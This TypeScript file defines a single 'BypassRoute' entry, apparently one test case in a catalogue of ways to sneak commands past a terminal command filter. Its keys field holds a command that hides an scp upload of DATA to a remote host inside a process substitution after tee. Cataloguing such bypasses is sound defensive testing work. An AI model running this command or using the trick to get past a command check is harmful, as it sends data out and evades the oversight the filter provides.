import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a process substitution as a target',
  source: 'thought of with the keys of the line editor',
  keys: ['echo x | tee >(scp DATA host:)\r'],
};
